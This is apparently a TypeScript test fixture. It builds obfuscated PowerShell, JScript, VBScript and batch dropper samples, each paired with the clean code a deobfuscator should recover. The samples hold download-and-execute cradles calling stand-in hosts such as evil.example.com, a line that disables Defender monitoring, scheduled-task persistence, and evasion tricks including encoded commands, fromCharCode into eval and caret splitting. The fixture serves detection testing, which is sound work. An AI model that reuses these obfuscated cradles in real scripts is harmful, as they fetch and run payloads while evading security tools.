// Obfuscated scripts built for the tests, each with the clean code it must peel down to.
import { deflateRawSync } from 'node:zlib';

export const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')";

/** The cradle with its URL and class name spelled as [char] arrays and concatenations, then -EncodedCommand. */
export function powershellOneLiner(): string {
  const inner = "IEX (New-Object ('Net.'+'Web'+'Client')).DownloadString(([char[]](104,116,116,112,58,47,47) -join '')+'evil.'+'example.com'+\"/a.ps1\")";
  return `powershell -nop -w hidden -enc ${Buffer.from(inner, 'utf16le').toString('base64')}`;
}

export const PS_ONE_LINER_CLEAN = `powershell -nop -w hidden -Command ${CRADLE}`;

/** Format operator, -replace, .Replace(), backticks and a compressed layer run through Invoke-Expression. */
export function powershellLayered(): string {
  const payload = "Set-MpPreference -DisableRealtimeMonitoring $true; Start-Process 'C:\\Users\\Public\\x.exe'";
  const b64 = deflateRawSync(Buffer.from(payload)).toString('base64');
  return [
    `$cmd = ("{2}{0}{1}" -f 'ke-Ex','pression','Invo');`,
    `$s = ('HELLOxWORLD' -replace 'x','_').Replace('_', ' ');`,
    `.($PSHome[4]+$PSHome[30]+'x') ('Write-Host ' + "'hi'");`,
    `&($env:ComSpec[4,15,25]-Join'') 'Get-Date';`,
    `$p = 'Write-Output ''from a variable'''; iex $p;`,
    `I\`E\`X (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${b64}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`,
  ].join('\n');
}

export const JS_INNER = "var sh = new ActiveXObject('WScript.Shell'); sh.Run('powershell -w hidden -c iwr http://bad.example.net/p.exe -OutFile p.exe');";

/** The JScript dropper: String.fromCharCode into eval, around a reversed string and an array of fragments. */
export function jsDropper(): string {
  const codes = [...JS_INNER].map((c) => c.charCodeAt(0)).join(',');
  return [
    `var u = ['ht', 'tp:', '//fr', 'agments', '.example.org/x'].join('');`,
    `var r = 'exe.dlrow'.split('').reverse().join('');`,
    `var k = '\\x57\\x53\\x63\\x72\\x69\\x70\\x74';`,
    `eval(String.fromCharCode(${codes}));`,
    `var c1 = 'new ActiveX'; var c2 = c1 + "Object('MSXML2.XMLHTTP')"; eval(c2);`,
  ].join('\n');
}

export const VBS_INNER = 'Set s = CreateObject("WScript.Shell"):s.Run "cmd /c schtasks /create /tn upd /tr c:\\users\\public\\u.exe"';

/** VBScript whose code is Chr() concatenation run by Execute, plus StrReverse and Replace. */
export function vbsDropper(): string {
  const chrs = [...VBS_INNER].map((c) => `Chr(${c.charCodeAt(0)})`).join(' & ');
  return [
    'Dim u',
    'u = StrReverse("nib.daolyap/moc.elpmaxe.live//:ptth")',
    'p = Replace("pXowXershell", "X", "")',
    `Execute ${chrs}`,
    'c = "MsgBox ""from a variable"""',
    'Execute c',
  ].join('\r\n');
}

/** Batch building "powershell" from set variables, a slice and carets. */
export function batchDropper(): string {
  return [
    '@echo off',
    'set a=pow',
    'set "b=ersh"',
    'set c=xxellxx',
    'set u=http://batch.example.com/b.ps1',
    '%a%%b%%c:~2,3% -nop -w hidden -c "i^e^x (n^ew-obj^ect net.webclient).downloadstring(\'%u%\')"',
  ].join('\r\n');
}

export const BATCH_CLEAN_LINE = '-nop -w hidden -c "iex (new-object net.webclient).downloadstring(\'http://batch.example.com/b.ps1\')"';
